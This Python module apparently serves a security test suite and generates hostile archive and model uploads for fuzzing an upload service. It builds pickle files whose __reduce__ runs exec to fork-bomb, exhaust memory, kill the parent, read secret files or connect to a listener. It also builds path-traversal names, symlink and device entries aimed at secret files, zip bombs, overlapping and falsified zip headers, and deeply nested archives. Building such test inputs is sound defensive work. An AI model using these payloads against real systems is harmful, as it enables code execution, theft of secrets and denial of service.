"""Archives that mean ill: bombs, paths and links out of them, lies about sizes, programs."""

from __future__ import annotations

import gzip
import io
import pickle
import random
import stat
import struct
import tarfile
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

Upload = tuple[str, bytes]
"""A file's name and content."""

WRITTEN = Path("/tmp/written")
"""What uploads try to write outside of their own folders: it must never be there."""
_MB = 1 << 20
_OUTSIDE = (
    f"../../../..{WRITTEN}", str(WRITTEN), "a/../../x.onnx", "..\\x", "x\0.onnx", "./.", "..",
    "a/" * 200 + "x", "x" * 300, "C:\\x", "\u202egnp.onnx", "-rf",
)  # fmt: skip
_WHERE = ("compress_type", "CRC", "compress_size", "file_size", "header_offset")
"""What an entry of a zip says of where its bytes are and what becomes of them."""


class Archives:
    """Makes them of valid files, `seeds`, against files of others and somebody who listens."""

    def __init__(
        self, seeds: Sequence[Upload], secrets: Sequence[Path], address: tuple[str, int]
    ) -> None:
        self._seeds, self._secrets, self._address = seeds, secrets, address
        self.kinds: Sequence[Callable[[random.Random], Upload]] = (
            self.pickled,
            self.paths,
            self.links_in_tar,
            self.links_in_zip,
            self.bomb,
            self.overlapping,
            self.lying,
            self.many,
            self.nested,
            self.damaged,
        )

    def pickled(self, choice: random.Random) -> Upload:
        """A file of PyTorch whose pickle runs a program: forks, sockets, files of others."""
        host, port = self._address
        code = choice.choice(
            [
                "import os\nwhile True: os.fork()",
                f"import socket; socket.create_connection(({host!r}, {port}))",
                f"print(open({str(self._secrets[0])!r}).read())",
                "import os\nif os.fork() == 0: os.setsid(); import time; time.sleep(10000)",
                "x = []\nwhile True: x.append(bytearray(1 << 26))",
                "import os; os.kill(os.getppid(), 9)",
            ]
        )
        data = pickle.dumps(_Runs(code), 2)
        if choice.random() < 0.2:  # a count beyond all memory
            data = b"\x80\x02" + struct.pack("<cI", b"X", 0xFFFFFFF0) + b"."
        if choice.random() < 0.3:
            return choice.choice(["model.pt", "model.pth", "model.pkl"]), data
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            archive.writestr("archive/data.pkl", data)
            archive.writestr("archive/version", "3\n")
            archive.writestr("archive/byteorder", "little")
        return choice.choice(["model.pt", "model.pt2", "model.keras"]), made.getvalue()

    def paths(self, choice: random.Random) -> Upload:
        """Paths that lead out of an archive."""
        name = choice.choice([*_OUTSIDE, str(self._secrets[0])])
        if choice.random() < 0.5:
            made = io.BytesIO()
            with zipfile.ZipFile(made, "w") as archive:
                archive.writestr(name, b"x")
                archive.writestr("model.onnx", self._valid(choice))
            return "archive.zip", made.getvalue()
        return "archive.tar", _tar([(tarfile.TarInfo(name), b"x")])

    def links_in_tar(self, choice: random.Random) -> Upload:
        """Links, pipes and devices in an archive, for files of others."""
        entry = tarfile.TarInfo("model.onnx")
        kinds = (
            tarfile.SYMTYPE,
            tarfile.LNKTYPE,
            tarfile.FIFOTYPE,
            tarfile.CHRTYPE,
            tarfile.BLKTYPE,
        )
        entry.type = choice.choice(kinds)
        entry.linkname = str(choice.choice(self._secrets))
        entry.devmajor, entry.devminor = 1, 1
        entries = [(entry, b"")]
        if choice.random() < 0.3:  # a link to a folder, and a file through it
            entry.name, entry.type, entry.linkname = "out", tarfile.SYMTYPE, "/tmp"
            entries.append((tarfile.TarInfo("out/written"), b"x"))
        return "linked.tar.gz", gzip.compress(_tar(entries), 1)

    def links_in_zip(self, choice: random.Random) -> Upload:
        """Links in an archive whose entries say that they are links."""
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            entry = zipfile.ZipInfo(choice.choice(["model.onnx", "variables", "saved_model.pb"]))
            kind = choice.choice([stat.S_IFLNK, stat.S_IFIFO, stat.S_IFCHR])
            entry.external_attr = (kind | 0o777) << 16
            archive.writestr(entry, str(choice.choice(self._secrets)))
            archive.writestr("variables/x", b"x")
        return choice.choice(["linked.zip", "model.mlpackage.zip"]), made.getvalue()

    def bomb(self, choice: random.Random) -> Upload:
        """Little that becomes much."""
        count = choice.choice([20, 100])
        if choice.random() < 0.3:
            return "bomb.onnx.gz", gzip.compress(bytes(count * _MB), 6)
        made = io.BytesIO()
        method = choice.choice([zipfile.ZIP_DEFLATED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2])
        name = choice.choice(["saved_model.pb", "model.weights.h5", "archive/data.pkl", "x.npy"])
        with zipfile.ZipFile(made, "w", method) as archive:
            with archive.open(name, "w", force_zip64=True) as file:
                for _ in range(count):
                    file.write(bytes(_MB))
            if name == "model.weights.h5":
                archive.writestr("config.json", b'{"class_name": "Sequential", "config": {}}')
        return choice.choice(["bomb.zip", "bomb.keras", "bomb.pt2"]), made.getvalue()

    def overlapping(self, choice: random.Random) -> Upload:
        """Entries that all read the same bytes: what comes out is the square of what is there."""
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("0.onnx", bytes(_MB))
            first = archive.infolist()[0]
            for at in range(1, choice.choice([50, 400])):
                entry = zipfile.ZipInfo(f"{at}.onnx")
                for field in _WHERE:
                    setattr(entry, field, getattr(first, field))
                archive.filelist.append(entry)
        return choice.choice(["overlap.zip", "overlap.keras"]), made.getvalue()

    def lying(self, choice: random.Random) -> Upload:
        """An archive that says other sizes, methods, offsets or counts than it has."""
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("model.onnx", self._valid(choice))
        data = bytearray(made.getvalue())
        central, end = data.rfind(b"PK\x01\x02"), data.rfind(b"PK\x05\x06")
        # flags, method, CRC, sizes, lengths, offset; and of the end: counts, size, offset
        places = [central + at for at in (8, 10, 16, 20, 24, 28, 30, 32, 42)]
        places += [end + at for at in (8, 10, 12, 16, 20)]
        for at in choice.sample(places, choice.randint(1, 3)):
            width = choice.choice([1, 2, 4])
            value = choice.choice([0, 1, 0xFFFFFFFF, choice.getrandbits(32)])
            data[at : at + width] = value.to_bytes(4, "little")[:width]
        return choice.choice(["lies.zip", "lies.keras", "lies.pt2"]), bytes(data)

    def many(self, choice: random.Random) -> Upload:
        """More entries, or deeper folders, or the same name more often than is allowed."""
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            match choice.randrange(3):
                case 0:
                    for at in range(11_000):
                        archive.writestr(f"{at}.onnx", b"")
                case 1:
                    archive.writestr("a/" * 100 + "model.onnx", self._valid(choice))
                case _:
                    archive.writestr("model.onnx", self._valid(choice))
                    archive.filelist.append(archive.filelist[0])
        return "many.zip", made.getvalue()

    def nested(self, choice: random.Random) -> Upload:
        """An archive in an archive in an archive."""
        data = self._valid(choice)
        for depth in range(choice.choice([1, 3, 40])):
            made = io.BytesIO()
            with zipfile.ZipFile(made, "w") as archive:
                archive.writestr("model.zip" if depth else "model.onnx", data)
            data = made.getvalue()
        return "nested.zip", data

    def damaged(self, choice: random.Random) -> Upload:
        """A compressed archive with bytes of its content changed."""
        data = bytearray(gzip.compress(_tar([(tarfile.TarInfo("m.onnx"), self._valid(choice))]), 1))
        for _ in range(choice.randint(1, 8)):
            data[choice.randrange(len(data))] = choice.randrange(256)
        return choice.choice(["damaged.tgz", "damaged.tar.gz", "damaged.tar"]), bytes(data)

    def _valid(self, choice: random.Random) -> bytes:
        return choice.choice(self._seeds)[1]


class _Runs:
    """What unpickles as the run of a program."""

    def __init__(self, code: str) -> None:
        self._code = code

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        return exec, (self._code,)


def _tar(entries: Sequence[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for entry, content in entries:
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return made.getvalue()
